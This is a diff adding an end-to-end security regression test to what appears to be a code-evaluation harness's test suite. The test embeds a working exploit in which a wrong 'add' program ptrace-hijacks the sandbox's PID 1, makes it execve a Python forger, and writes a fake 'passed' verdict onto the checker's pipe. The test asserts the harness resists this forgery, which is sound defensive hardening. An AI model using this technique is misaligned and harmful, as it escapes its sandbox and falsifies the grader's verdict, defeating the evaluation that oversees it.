@@ -1502,3 +1502,96 @@ def test_p44_in_the_harness_the_program_cannot_touch_the_checkers_stdout(w):
     """)
     res = w.tests(code, tests)
     assert _statuses(res) != ["passed"], "the program wrote to and read from the checker's stdout pipe"
+
+
+# The end-to-end attack behind p41/p42/p44. Under bwrap, PID 1 of the run's namespace is bwrap itself:
+# the caller's uid, dumpable, unkillable from inside, and it holds the pipe the checker's verdict goes
+# out on. The program process ptrace-attaches to it, makes it execve a small Python program (registers
+# only: the `syscall` instruction PID 1 is stopped after is reused), and that program waits on the
+# verdict pipe opened for reading, takes `<nonce> <verdict>` off it, and writes `<nonce> {"v":"passed"}`
+# (the verdict format of a passing check, as seen by any caller of the public `run_tests(sandbox=...)`).
+FORGER_INIT = r"""
+import os, threading, time
+r = os.open('/proc/self/fd/1', os.O_RDONLY)
+def reaper():
+    while True:
+        try:
+            os.wait()
+        except ChildProcessError:
+            break
+    time.sleep(0.3)
+    os._exit(0)
+threading.Thread(target=reaper, daemon=True).start()
+data = b''
+while not data.endswith(b'\n'):
+    chunk = os.read(r, 65536)
+    if not chunk:
+        break
+    data += chunk
+nonce = data.decode().partition(' ')[0]
+os.write(1, (nonce + ' {"v":"passed"}\n').encode())
+time.sleep(5)
+os._exit(0)
+"""
+
+FORGER_PROGRAM = r"""
+import ctypes, os, struct, time
+INIT = @INIT@
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+class Regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulonglong) for n in (
+        'r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss '
+        'fs_base gs_base ds es fs gs').split()]
+def hijack():
+    if os.getpid() == 1 or libc.ptrace(16, 1, None, None) != 0:          # PTRACE_ATTACH
+        return
+    os.waitpid(1, 0x40000000)
+    regs = Regs()
+    libc.ptrace(12, 1, None, ctypes.byref(regs))                          # GETREGS
+    base = (regs.rsp - 0x10000) & ~0xF
+    blob = bytearray()
+    def put(b):
+        off = len(blob)
+        blob.extend(b)
+        while len(blob) % 8:
+            blob.append(0)
+        return base + off
+    py = put(b'/usr/bin/python3\0')
+    dash_c = put(b'-c\0')
+    code = put(INIT.encode() + b'\0')
+    argv = put(struct.pack('QQQQ', py, dash_c, code, 0))
+    envp = put(struct.pack('Q', 0))
+    for i in range(0, len(blob), 8):
+        word = struct.unpack('Q', bytes(blob[i:i + 8]))[0]
+        libc.ptrace(5, 1, ctypes.c_void_p(base + i), ctypes.c_void_p(word))   # POKEDATA
+    regs.rax, regs.orig_rax = 59, 0xFFFFFFFFFFFFFFFF                        # execve
+    regs.rdi, regs.rsi, regs.rdx = py, argv, envp
+    regs.rip -= 2                                                          # the syscall it sits after
+    libc.ptrace(13, 1, None, ctypes.byref(regs))                           # SETREGS
+    libc.ptrace(17, 1, None, None)                                         # DETACH
+hijack()
+def add(a, b):
+    for _ in range(300):
+        try:
+            if open('/proc/1/cmdline', 'rb').read().startswith(b'/usr/bin/python3'):
+                break
+        except OSError:
+            pass
+        time.sleep(0.01)
+    time.sleep(0.5)
+    return a - b
+""".replace("@INIT@", repr(FORGER_INIT))
+
+
+def test_p45_a_wrong_program_cannot_forge_the_checkers_verdict_through_pid_1(w):
+    """End to end: a wrong `add` plus the PID 1 hijack must never pass (HumanEval harness)."""
+    if not Path("/usr/bin/python3").exists():
+        pytest.skip("the forger's PID 1 program needs /usr/bin/python3")
+    tests = {
+        "test": "def check(candidate):\n    assert candidate(2, 3) == 5\n    assert candidate(4, 4) == 8\n",
+        "entry_point": "add",
+    }
+    results = [_statuses(w.tests(FORGER_PROGRAM, tests, limits={"wall_s": 20}))[0] for _ in range(3)]
+    assert "passed" not in results, f"a wrong program forged a pass (with the real nonce): {results}"
